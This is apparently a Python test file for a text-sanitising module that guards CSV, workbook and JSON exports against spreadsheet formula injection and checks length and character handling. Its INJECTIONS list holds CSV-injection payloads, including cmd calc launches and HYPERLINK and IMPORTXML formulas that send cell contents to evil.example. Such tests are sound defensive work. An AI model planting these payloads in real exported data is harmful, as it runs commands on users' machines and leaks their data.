"""No cell becomes a formula, and nothing is lost without a word."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claims.exporting.safe_text import (
    CELL_LIMIT,
    SafeText,
    for_csv,
    for_json,
    for_workbook,
    looks_like_formula,
)

ANY_TEXT = st.text(st.characters(exclude_categories=()))

INJECTIONS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1+1;=2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=1+1";=1+1',
    "=1+1';=1+1",
    "=IMPORTXML(CONCAT(\"\"http://evil.example?v=\"\", CONCATENATE(A2:E2)), \"\"//a\"\")",
    "-2+3+cmd|' /C calc'!E1",
    "=10+20+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_owasp_lists_gets_an_apostrophe_in_csv(text: str) -> None:
    assert looks_like_formula(text)
    safe = for_csv(text)
    assert safe.text.startswith("'")
    assert "formula" in safe.alterations


@pytest.mark.parametrize("text", ["cold;=1+1", "cold\t@x", "a\n+1", "a; =1+1"])
def test_a_reader_with_another_separator_finds_no_formula_either(text: str) -> None:
    cells = re.split("[;\t\n]", for_csv(text).text)
    assert not any(looks_like_formula(cell) for cell in cells)


@pytest.mark.parametrize(
    "text", ["#N/A", "001", "12345678901234567890", "warm; -5 degrees at night", "3-12", "“+5”", "Peña’s"]
)
def test_harmless_text_is_kept_as_it_is(text: str) -> None:
    assert for_csv(text) == for_workbook(text) == for_json(text) == SafeText(text)


@given(ANY_TEXT)
def test_no_csv_cell_begins_like_a_formula(text: str) -> None:
    assert not looks_like_formula(for_csv(text).text)


def test_line_breaks_become_lf() -> None:
    assert (
        for_workbook("a\r\nb\rc\nd")
        == for_csv("a\r\nb\rc\nd")
        == SafeText("a\nb\nc\nd", (), ("line breaks",))
    )


def test_what_xml_cannot_hold_is_replaced_visibly() -> None:
    safe = for_workbook("a\0b\x1fc\ud800d\uffffe\x0bf")
    assert safe == SafeText("a�b�c�d�e�f", (), ("characters",))


def test_an_escape_lookalike_is_escaped_as_excel_reads_it() -> None:
    assert for_workbook("_x0041_ _x00ZZ_") == SafeText("_x005F_x0041_ _x00ZZ_", (), ("escape",))


@given(ANY_TEXT)
def test_json_text_is_utf8(text: str) -> None:
    safe = for_json(text)
    assert safe.text.encode().decode() == safe.text
    assert (safe.text == text) == (not safe.alterations)


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


@pytest.mark.parametrize("words", ["flooded ", "=1 ", "ab;=1 ", "_x0041_ "])
@pytest.mark.parametrize("count", [12_000, 40_000])
def test_long_text_is_cut_at_words_and_goes_on(words: str, count: int) -> None:
    text = (words * count).strip()
    for safe in (for_workbook(text), for_csv(text)):
        assert "length" in safe.alterations
        assert all(piece.endswith(f"{words.strip()[-1]}…") for piece in (safe.text, *safe.rest)[:-1])
        assert all(units(p.replace("_x005F", "")) <= CELL_LIMIT for p in (safe.text, *safe.rest))
        together = " ".join(p.removesuffix("…") for p in (safe.text, *safe.rest))
        assert together.replace("'", "").replace("_x005F", "").split() == text.split()


def test_the_limit_counts_what_excel_counts() -> None:
    safe = for_workbook("🌊" * 20_000)
    assert units(safe.text) <= CELL_LIMIT
    assert (safe.text.removesuffix("…") + "".join(safe.rest)) == "🌊" * 20_000


@pytest.mark.parametrize("size", [CELL_LIMIT - 1, CELL_LIMIT])
def test_text_that_just_fits_is_not_cut(size: int) -> None:
    assert for_workbook("a" * size) == SafeText("a" * size)
    assert for_csv("a" * (size - 1)) == SafeText("a" * (size - 1))


@given(ANY_TEXT)
def test_what_is_not_reported_is_not_altered(text: str) -> None:
    for safe in (for_workbook(text), for_csv(text), for_json(text)):
        assert (safe == SafeText(text)) == (not safe.alterations)
